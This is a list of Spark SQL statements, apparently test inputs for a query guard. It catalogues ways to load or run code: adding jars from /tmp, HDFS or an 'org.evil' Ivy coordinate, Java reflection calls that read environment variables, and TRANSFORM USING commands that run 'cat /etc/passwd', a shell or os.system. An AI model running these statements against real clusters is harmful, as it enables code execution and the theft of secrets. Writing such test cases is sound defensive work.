## Spark SQL ways to load or run code: jars, files, functions, Java reflection and scripts.
## One statement per block; blocks are separated by a blank line. Lines starting with ## are notes.

ADD JAR '/tmp/pwned.jar'

ADD JAR ivy://org.evil:payload:1.0

ADD JARS '/tmp/a.jar' '/tmp/b.jar'

ADD FILE '/tmp/pwned.py'

ADD FILES /tmp/a.py /tmp/b.py

ADD ARCHIVE '/tmp/pwned.zip'

LIST JAR

LIST FILE

CREATE FUNCTION pwned AS 'com.evil.Udf' USING JAR '/tmp/pwned.jar'

CREATE TEMPORARY FUNCTION pwned AS 'org.apache.hadoop.hive.ql.udf.generic.GenericUDFReflect'

CREATE OR REPLACE TEMPORARY FUNCTION pwned AS 'com.evil.Udf' USING JAR 'hdfs://x/pwned.jar'

CREATE FUNCTION pwned(x INT) RETURNS INT RETURN x + 1

CREATE TEMPORARY FUNCTION pwned() RETURNS TABLE (v STRING) RETURN SELECT v FROM groundsql_canary_db.secret

DROP FUNCTION IF EXISTS pwned

DROP TEMPORARY FUNCTION IF EXISTS pwned

SELECT reflect('java.lang.System', 'getenv', 'GROUNDSQL_CANARY_ENV')

SELECT java_method('java.lang.System', 'getProperty', 'user.home')

SELECT try_reflect('java.lang.Runtime', 'getRuntime')

SELECT reflect('java.lang.Thread', 'sleep', 10000L)

SELECT id FROM orders WHERE reflect('java.util.UUID', 'randomUUID') IS NOT NULL

SELECT id FROM orders ORDER BY java_method('java.lang.Math', 'random')

WITH x AS (SELECT reflect('java.lang.System', 'getenv') AS env) SELECT * FROM x

SELECT (SELECT reflect('java.lang.System', 'getenv', 'HOME')) AS h

SELECT id, count(*) FROM orders GROUP BY id HAVING reflect('java.lang.System', 'gc') IS NULL

SELECT REFLECT('java.lang.System', 'getenv', 'GROUNDSQL_CANARY_ENV')

SELECT `reflect`('java.lang.System', 'getenv', 'GROUNDSQL_CANARY_ENV')

SELECT TRANSFORM(id) USING 'cat /etc/passwd' AS (line) FROM orders

SELECT TRANSFORM(id, status) USING 'python3 -c "import os; os.system(\"touch /tmp/pwned\")"' FROM orders

SELECT TRANSFORM(*) ROW FORMAT DELIMITED FIELDS TERMINATED BY ',' USING 'sh' AS (x) FROM orders

FROM orders SELECT TRANSFORM(id) USING 'id' AS (x)

SELECT assert_true(false)

SELECT raise_error('pwned')

SELECT from_avro(CAST(payload AS BINARY), '{"type": "string"}') FROM events

SELECT xpath('<a><b>1</b></a>', 'a/b')
